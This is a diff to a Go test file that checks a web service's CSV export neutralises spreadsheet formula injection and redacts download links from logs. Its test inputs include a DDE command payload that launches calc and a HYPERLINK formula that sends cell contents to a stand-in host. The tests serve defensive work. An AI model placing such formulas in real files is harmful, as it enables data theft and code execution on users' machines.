@@ -1,15 +1,19 @@
 package web
 
 import (
+	"bytes"
 	"context"
 	"encoding/csv"
+	"encoding/json"
 	"errors"
 	"fmt"
 	"io"
 	"log/slog"
 	"net/http"
 	"net/http/httptest"
+	"regexp"
 	"strconv"
+	"strings"
 	"testing"
 	"time"
 
@@ -148,11 +152,15 @@ func TestTableHasNoFormulas(t *testing.T) {
 		{"+49 30 1234", "'+49 30 1234"},
 		{"-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"},
 		{"@SUM(A1)", "'@SUM(A1)"},
-		{"\t=1", "'\t=1"},
-		{"\r=1", "'=1"}, // encoding/csv drops a carriage return that stands alone
+		{"\t=1", "'\t'=1"},
+		{"\r=1", "''=1"}, // encoding/csv drops a carriage return that stands alone
 		{"-1.50", "-1.50"},
 		{"-1.5e3", "'-1.5e3"},
 		{"a=1", "a=1"},
+		{" =1+1", "' =1+1"},
+		{"\"=1+1", "'\"=1+1"},
+		{"＝1+1", "'＝1+1"},
+		{"Rent; paid, -10", "Rent; paid, -10"},
 		{"", ""},
 	} {
 		s.rows = []tableView{{ID: c.given, Percent: "1", Tags: []string{c.given}, Quote: &quoteView{Rate: c.given}}}
@@ -165,6 +173,47 @@ func TestTableHasNoFormulas(t *testing.T) {
 		require.Equal(t, c.want, all[1][0])
 		require.Equal(t, c.want, all[1][2])
 		require.NotRegexp(t, `^[=+@\t\r]`, all[1][5])
+	}
+}
+
+// Excel parts cells at semicolons where a comma is a decimal sign, and other programs at tabs: whatever a text makes of
+// that, no part of it is a formula. JSON stays JSON.
+func TestTableHasNoFormulasWhereASemicolonPartsCells(t *testing.T) {
+	formula := regexp.MustCompile(`^[\s\p{Z}"]*[=+\-@＝＋－＠]`)
+
+	s := newShelf(t)
+	for _, text := range []string{
+		`Rent;=HYPERLINK("http://x.example/?"&A1,"open")`,
+		`x;"=1+1`,
+		`x; +1`,
+		"x\t-2+3",
+		"x\n=1+1",
+		"x;\u00a0@SUM(A1)",
+		"x;＝1+1",
+		";;=1",
+		"=1;=2",
+	} {
+		s.rows = []tableView{{
+			ID:      text,
+			Percent: "1",
+			Tags:    []string{"two words", text},
+			Parts:   []quoteView{{Rate: text}},
+			Any:     map[string]any{text: text},
+		}}
+
+		raw := s.get("/shelf/me").Body.String()
+		all, err := csv.NewReader(strings.NewReader(raw)).ReadAll()
+		require.NoError(t, err, text)
+
+		var parts []struct{ Rate string }
+
+		require.NoError(t, json.Unmarshal([]byte(all[1][6]), &parts), all[1][6])
+		require.Equal(t, text, parts[0].Rate, "a program reads what was written")
+
+		_, rest, _ := strings.Cut(raw, "\r\n")
+		for _, cell := range strings.FieldsFunc(rest, func(r rune) bool { return strings.ContainsRune(";\t\r\n", r) }) {
+			require.NotRegexp(t, formula, cell, text)
+		}
 	}
 }
 
@@ -257,4 +306,31 @@ func TestPrefers(t *testing.T) {
 func ExamplePrefers() {
 	fmt.Println(Prefers("text/csv", "text/csv"), Prefers("application/json, text/csv", "text/csv"))
 	// Output: true false
+}
+
+// A link that opens a document by itself stands in no line of the log.
+func TestLogsShowNoLink(t *testing.T) { // I-06
+	var log bytes.Buffer
+
+	api := New(Config{
+		Title:   "Test",
+		Version: "1",
+		Log:     slog.New(slog.NewTextHandler(&log, &slog.HandlerOptions{Level: slog.LevelDebug})),
+	})
+
+	Register(api, Operation{Method: "GET", Path: "/downloads/{link}", ID: "download", Access: Public},
+		func(_ context.Context, in *struct {
+			Link string `path:"link" maxLength:"200"`
+		},
+		) (*Raw, error) {
+			return nil, errors.New("the store is away")
+		})
+
+	const link = "doc_01kaj3w8r8q2m5x9v7t4b6c1dn.1795855800.k1.3q2-7wCANARYAAABBBBCCCCDDDDEEEEFFFFGGGG"
+
+	rec := httptest.NewRecorder()
+	api.Handler().ServeHTTP(rec, httptest.NewRequest(http.MethodGet, "/downloads/"+link, nil))
+	require.Equal(t, 500, rec.Code)
+	require.Contains(t, log.String(), "path=/downloads/[redacted]")
+	require.NotContains(t, log.String(), "CANARY")
 }
